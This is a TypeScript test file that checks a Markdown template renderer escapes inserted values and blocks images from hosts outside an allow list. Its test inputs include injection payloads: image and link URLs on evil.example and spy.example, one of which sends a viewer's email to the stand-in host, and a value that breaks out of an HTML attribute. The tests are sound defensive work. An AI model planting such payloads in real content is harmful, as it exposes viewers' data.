/** A `{{ }}` hole's value is text inside Markdown: a database value adds no image, link or heading (issue 25). */
import { describe, expect, it } from 'vitest';
import { renderMarkdownTemplate } from './components/markdown.ts';

describe('holes in Markdown', () => {
  it("inserts values as escaped text, while the author's own Markdown still renders", () => {
    const value =
      '![x](https://evil.example/p.png?who=me) [click](https://evil.example) <b>bold</b>\n# Title';
    const html = renderMarkdownTemplate('**Note:** {{ row.note }} and {{ row.n }}', {
      row: { note: value, n: 7 },
    });
    expect(html).toContain('<strong>Note:</strong>');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<a ');
    expect(html).not.toContain('<h1');
    expect(html).not.toContain('<b>');
    expect(html).toContain(
      '![x](https://evil.example/p.png?who=me) [click](https://evil.example) &lt;b&gt;bold&lt;/b&gt;',
    );
    expect(html).toContain('and 7');
    // A template that is one hole is text too.
    expect(renderMarkdownTemplate('{{ v }}', { v: '# not a heading' })).toBe('<p># not a heading</p>\n');
    // Quotes in a value inside an author's link stay inside the attribute.
    const link = renderMarkdownTemplate('[order](https://shop.example/o/{{ id }})', {
      id: '1" onmouseover="x',
    });
    expect(link).toContain('href="https://shop.example/o/1&quot; onmouseover=&quot;x"');
  });
});

describe('images in Markdown (allowed hosts, decision 0155)', () => {
  const policy = {
    allows: (url: string) => url.startsWith('https://images.example.com/'),
    blocked: (url: string) => `blocked ${new URL(url).host}`,
  };

  it("an author's image from an allowed host renders; from another host it is a note, never an <img>", () => {
    const html = renderMarkdownTemplate(
      '![ok](https://images.example.com/a.png) ![spy](https://spy.example/p.png?e={{ user.email }})',
      { user: { email: 'viewer@example.com' } },
      policy,
    );
    expect(html).toContain('<img src="https://images.example.com/a.png" alt="ok">');
    expect(html.match(/<img/g)).toHaveLength(1);
    expect(html).toContain('blocked spy.example');
  });

  it('a hole in the host is judged with its value filled in', () => {
    const html = renderMarkdownTemplate('![x](https://{{ host }}/p.png)', { host: 'spy.example' }, policy);
    expect(html).not.toContain('<img');
    expect(html).toContain('blocked spy.example');
  });

  it('without a policy no image is loaded at all', () => {
    expect(renderMarkdownTemplate('![x](https://images.example.com/a.png)', {})).not.toContain('<img');
  });
});
